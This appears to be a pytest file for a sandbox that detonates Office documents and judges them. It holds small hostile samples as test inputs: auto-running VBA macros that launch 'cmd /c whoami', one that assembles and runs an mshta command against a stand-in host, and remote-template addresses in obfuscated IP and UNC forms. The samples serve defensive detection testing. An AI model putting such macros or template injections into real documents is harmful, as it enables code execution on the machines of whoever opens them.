"""The environment `office`: what ends a run early."""

from __future__ import annotations

from typing import cast

import pytest

from gateway.emulation import Budget, Detonation, StopKind
from gateway.emulation.scripts import ScriptEnvironment
from gateway.model import Verdict
from tests.unit.emulation.judging import BUDGET, expect_stopped, ran, verdict_of
from tools.corpus.compound import Tree, compound_file
from tools.corpus.detections import office_files
from tools.corpus.ooxml import WORD_NS, XML
from tools.corpus.vba import Module, vba_project_tree
from tools.corpus.xlsb import BinarySheet, xlsb


def _run(
    office: ScriptEnvironment, data: bytes, kind: str = "docm", budget: Budget = BUDGET
) -> Detonation:
    return ran(office, f"d.{kind}", kind, data, budget)


def test_a_macro_that_only_starts_a_program_is_suspicious(office: ScriptEnvironment) -> None:
    data = office_files.docm('Sub AutoOpen()\nShell "calc.exe", vbNormalFocus\nEnd Sub\n')
    assert verdict_of(_run(office, data)) is Verdict.SUSPICIOUS


def test_a_template_of_the_network_is_told(office: ScriptEnvironment) -> None:
    result = _run(office, office_files.docx_template("http://t.example/a.dotm"), "docx")
    assert "t.example:80" in [behaviour.target for behaviour in result.behaviours]
    assert verdict_of(result) is Verdict.SUSPICIOUS


@pytest.mark.parametrize(
    ("address", "verdict"),
    [
        ("http://user@198.51.100.8/a.dotm", Verdict.MALICIOUS),
        (r"\\198.51.100.8\t\a.dotm", Verdict.MALICIOUS),
        ("http://3325256712/a.dotm", Verdict.MALICIOUS),
        (r"file:///\\10.1.4.2\t\a.dotx", Verdict.SUSPICIOUS),
        ("http://192.168.4.2/a.dotx", Verdict.SUSPICIOUS),
        ("http://198.51.100.8.t.example/a.dotm", Verdict.SUSPICIOUS),
    ],
)
def test_a_template_of_a_bare_public_address_is_malicious(
    office: ScriptEnvironment, address: str, verdict: Verdict
) -> None:
    assert verdict_of(_run(office, office_files.docx_template(address), "docx")) is verdict


@pytest.mark.parametrize(
    "cells",
    [
        "ActiveDocument.Tables(1).Range.Cells",
        "ActiveDocument.Tables(1).Rows(1).Cells",
    ],
)
def test_words_in_cells_of_a_table(office: ScriptEnvironment, cells: str) -> None:
    words = ("mshta ", "http://", "t.example")
    row = "".join(
        f'<w:tc><w:p><w:r><w:t xml:space="preserve">{word}</w:t></w:r></w:p></w:tc>'
        for word in words
    )
    table = f"<w:tbl><w:tr>{row}</w:tr></w:tbl>"
    body = f'{XML}<w:document xmlns:w="{WORD_NS}"><w:body>{table}</w:body></w:document>'
    macro = (
        f"Sub AutoOpen()\nDim c As Cell\nFor Each c In {cells}\n"
        "s = s & Left(c.Range.Text, Len(c.Range.Text) - 2)\nNext\nShell s\nEnd Sub\n"
    )
    data = office_files.docm(macro, extra={"word/document.xml": body.encode()})
    result = _run(office, data)
    assert "".join(words) in [b.arguments[0] for b in result.behaviours if b.action == "execute"]


def test_words_of_a_control_are_what_was_put(office: ScriptEnvironment) -> None:
    macro = (
        'Sub AutoOpen()\nUserForm1.T1.Text = "calc.exe"\nShell UserForm1.T1\n'
        'UserForm1.T1 = "notepad.exe"\nShell UserForm1.T1.Value\nEnd Sub\n'
    )
    result = _run(office, office_files.with_form(macro, "Form", ""))
    started = [b.arguments[0] for b in result.behaviours if b.action == "execute"]
    assert started == ["calc.exe", "notepad.exe"]


_ASKING: dict[str, str] = {
    "A1": '=HYPERLINK("http://l.example/a","here")',
    "A2": '=WEBSERVICE("http://w.example/b")&"x"',
}


@pytest.mark.parametrize("kind", ["xlsx", "xlsb"])
def test_what_formulas_lead_to_is_told(office: ScriptEnvironment, kind: str) -> None:
    if kind == "xlsx":
        data = office_files.xlsm(cells=_ASKING)
    else:
        names = {"_xlfn.WEBSERVICE": "#NAME?"}
        data = xlsb([BinarySheet("Data", _ASKING)], names=names)
    result = _run(office, data, kind)
    told = [(each.target, each.arguments) for each in result.behaviours]
    assert ("formula HYPERLINK", ("http://l.example/a",)) in told
    assert "w.example:80" in [target for target, _ in told]
    assert "l.example:80" not in [target for target, _ in told]
    assert verdict_of(result) is Verdict.CLEAN


def test_files_inside_come_back_as_children(office: ScriptEnvironment) -> None:
    result = _run(office, office_files.docx_package("notes.txt", b"words"), "docx")
    assert [(child.path, child.data) for child in result.children] == [("notes.txt", b"words")]


def test_a_macro_without_end_is_stopped_and_what_it_did_is_kept(office: ScriptEnvironment) -> None:
    source = 'Sub AutoOpen()\nShell "cmd /c whoami"\nDo\nLoop\nEnd Sub\n'
    result = _run(office, office_files.docm(source), budget=Budget(seconds=1.0))
    expect_stopped(result, StopKind.TIMED_OUT)
    assert verdict_of(result) is Verdict.MALICIOUS


@pytest.mark.parametrize(
    "source",
    [
        'Sub AutoOpen()\nSet x = CreateObject("No.Such.Thing")\nEnd Sub\n',
        "Sub AutoOpen()\nFor For For\nEnd Sub\n",
    ],
)
def test_a_macro_not_seen_to_its_end_is_unscanned(office: ScriptEnvironment, source: str) -> None:
    result = _run(office, office_files.docm(source))
    expect_stopped(result, StopKind.INCOMPLETE)
    assert verdict_of(result) is Verdict.UNSCANNED


@pytest.mark.parametrize("kind", ["docm", "ole-xls", "pptm"])
@pytest.mark.parametrize("data", [b"", b"PK\x03\x04garbage", b"\xd0\xcf\x11\xe0" + bytes(600)])
def test_what_is_no_document_is_unscanned(
    office: ScriptEnvironment, kind: str, data: bytes
) -> None:
    result = _run(office, data, kind)
    assert result.stopped_by is not None
    assert verdict_of(result) is Verdict.UNSCANNED


@pytest.mark.parametrize("directory", [b"", b"no directory" * 9])
def test_a_damaged_directory_hides_no_module(office: ScriptEnvironment, directory: bytes) -> None:
    modules = [Module("Module1", 'Sub AutoOpen()\nShell "cmd /c whoami"\nEnd Sub\n')]
    tree = vba_project_tree(modules)
    streams = {**cast(Tree, tree["VBA"]), "dir": directory}
    tree = {**tree, "VBA": streams}
    data = compound_file({"WordDocument": bytes(1024), "Macros": tree})
    assert verdict_of(_run(office, data, "ole-doc")) is Verdict.MALICIOUS


def test_cut_off_documents_end_in_words(office: ScriptEnvironment) -> None:
    whole = office_files.xls("Sub Auto_Open()\nEnd Sub\n")
    for size in range(0, len(whole), len(whole) // 12):
        result = _run(office, whole[:size], "ole-xls")
        assert result.stopped_by is None or len(result.stopped_by.detail) > 5
